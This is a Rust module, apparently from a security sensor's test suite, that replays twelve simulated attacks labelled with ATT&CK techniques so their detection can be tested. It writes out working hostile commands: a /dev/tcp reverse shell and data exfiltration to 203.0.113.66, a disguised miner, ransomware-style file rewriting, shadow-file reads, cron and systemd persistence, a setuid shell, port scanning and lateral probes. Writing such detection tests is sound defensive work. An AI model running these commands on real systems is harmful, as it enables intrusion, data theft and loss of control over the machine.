//! Attacks, harmless and local, each with what is to be said of it.

use std::{process::Command, thread, time::Duration};

use anyhow::Result;

use super::{run, world::World};
use crate::command::{helper, succeed};

/// One attack.
pub struct Attack {
    /// Its name.
    pub name: &'static str,
    /// What the subject of its incident has in its name.
    pub subject: &'static str,
    /// `SIDE_INSIDER`, `SIDE_EXTERNAL` or `SIDE_UNCLEAR`.
    pub side: &'static str,
    /// One of these is named.
    pub techniques: &'static [&'static str],
    /// Further arguments of `sensor replay`.
    pub arguments: &'static [&'static str],
    pub(super) play: fn(&World) -> Result<()>,
}

impl Attack {
    /// Whether it is played at another time than it was recorded.
    #[must_use]
    pub fn is_moved(&self) -> bool {
        self.arguments.contains(&"--at")
    }
}

const EXTERNAL: &str = "SIDE_EXTERNAL";
const INSIDER: &str = "SIDE_INSIDER";
const WEB: &str = "unit:sensor-web.service";
const PERSON: &str = "session:4242";

/// All of them.
#[must_use]
pub fn attacks() -> Vec<Attack> {
    let attack = |name, subject, side, techniques, play| Attack {
        name,
        subject,
        side,
        techniques,
        arguments: &[],
        play,
    };
    vec![
        attack(
            "reverse_shell",
            WEB,
            EXTERNAL,
            &["T1059.004", "T1071"],
            reverse_shell,
        ),
        attack("web_shell_recon", WEB, EXTERNAL, &["T1059.004"], recon),
        attack("miner", WEB, EXTERNAL, &["T1071", "T1059.004"], miner),
        Attack {
            arguments: &["--hours", "8-18", "--at", "2026-12-02T03:10:00Z"],
            ..attack(
                "exfiltration_at_night",
                PERSON,
                INSIDER,
                &["T1048", "T1078"],
                exfiltration,
            )
        },
        attack("mass_rewrite", PERSON, INSIDER, &["T1486"], mass_rewrite),
        attack("credential_files", WEB, EXTERNAL, &["T1003.008"], credentials),
        attack("beacon", PERSON, INSIDER, &["T1071"], beacon),
        attack("port_scan", PERSON, INSIDER, &["T1046"], port_scan),
        attack("brute_force", "", EXTERNAL, &["T1110"], brute_force),
        attack(
            "persistence",
            WEB,
            EXTERNAL,
            &["T1053.003", "T1574.006"],
            persistence,
        ),
        attack("setuid", PERSON, INSIDER, &["T1548.001"], setuid),
        attack("lateral_movement", PERSON, INSIDER, &["T1021"], lateral),
    ]
}

fn reverse_shell(world: &World) -> Result<()> {
    world.exploit("bash -c 'exec 3<>/dev/tcp/203.0.113.66/4444; sh <&3 >&3 2>&1'")
}

fn recon(world: &World) -> Result<()> {
    world.exploit(
        "id; uname -a; hostname; cat /etc/passwd | wc -l; ps aux | wc -l; ip addr; ls -la /home /root",
    )
}

fn miner(world: &World) -> Result<()> {
    world.exploit(
        "cp /usr/bin/perl /dev/shm/kworkerd; \
         bash -c 'exec 3<>/dev/tcp/203.0.113.66/3333; echo login >&3; /dev/shm/kworkerd -e \"1 while \\$i++ < 2e7\"'; \
         rm /dev/shm/kworkerd",
    )
}

fn exfiltration(world: &World) -> Result<()> {
    world.user(
        "cp -r ../share staged; tar czf staged.tgz staged; head -c 60000000 /dev/zero >> staged.tgz; \
         exec 3<>/dev/tcp/203.0.113.66/443; cat staged.tgz >&3; exec 3>&-; rm -r staged staged.tgz",
    )
}

/// As `root` would have it for a share that is everybody's: what is rewritten is there again at the end.
fn mass_rewrite(world: &World) -> Result<()> {
    world.user(
        "cp -r ../share mine; perl -e 'for (glob(\"mine/*.doc\")) { open(F, \"+<\", $_); print F \"z\" x 400; close F; rename($_, \"$_.locked\") }'; \
         rm -r mine",
    )
}

fn credentials(world: &World) -> Result<()> {
    world.exploit("cat /etc/shadow | wc -l; cat /etc/gshadow | wc -l")
}

fn beacon(world: &World) -> Result<()> {
    let beat = helper("beat")?;
    let program = beat.get_program().to_string_lossy().into_owned();
    let arguments: Vec<_> = beat
        .get_args()
        .map(|word| word.to_string_lossy().into_owned())
        .collect();
    world.user(&format!(
        "{program} {} 203.0.113.66:8443 16 3000",
        arguments.join(" ")
    ))
}

fn port_scan(world: &World) -> Result<()> {
    world.user("for port in $(seq 1 120); do (exec 3<>/dev/tcp/198.51.100.41/$port) 2> /dev/null; done; true")
}

/// As `sshd` records what others try, and then get.
fn brute_force(world: &World) -> Result<()> {
    let log = |file: &str, rest: [&str; 4]| -> Result<()> {
        let path = world.folder().join(file);
        succeed(helper("log-session")?.arg(path).args(rest))?;
        thread::sleep(Duration::from_millis(30));
        Ok(())
    };
    for _ in 0..40 {
        log("btmp", ["6", "ssh:notty", "admin", "203.0.113.66"])?;
    }
    log("wtmp", ["7", "pts/8", "admin", "203.0.113.66"])?;
    thread::sleep(Duration::from_secs(2));
    Ok(())
}

fn persistence(world: &World) -> Result<()> {
    let done = world.exploit(
        "echo '# nothing' > /etc/cron.d/sensor-test; echo '# nothing' > /etc/ld.so.conf.d/sensor-test.conf; \
         echo '# nothing' > /etc/systemd/system/sensor-test.service; true",
    );
    run(
        "/usr/bin/rm",
        &[
            "-f",
            "/etc/cron.d/sensor-test",
            "/etc/ld.so.conf.d/sensor-test.conf",
            "/etc/systemd/system/sensor-test.service",
        ],
    )?;
    done
}

/// A shell that somebody has left for later.
fn setuid(world: &World) -> Result<()> {
    let shell = world.folder().join("shell");
    let path = shell.to_string_lossy().into_owned();
    std::fs::copy("/usr/bin/bash", &shell)?;
    run("/usr/bin/chmod", &["4755", &path])?;
    let done = world.user(&format!("{path} -p -c 'id; cat /etc/shadow | wc -l'"));
    super::play(Command::new("/usr/bin/rm").arg(&shell))?;
    done
}

fn lateral(world: &World) -> Result<()> {
    world.user(
        "for host in 41 42 43 44 45 46; do (exec 3<>/dev/tcp/198.51.100.$host/22; echo hello >&3); done",
    )
}
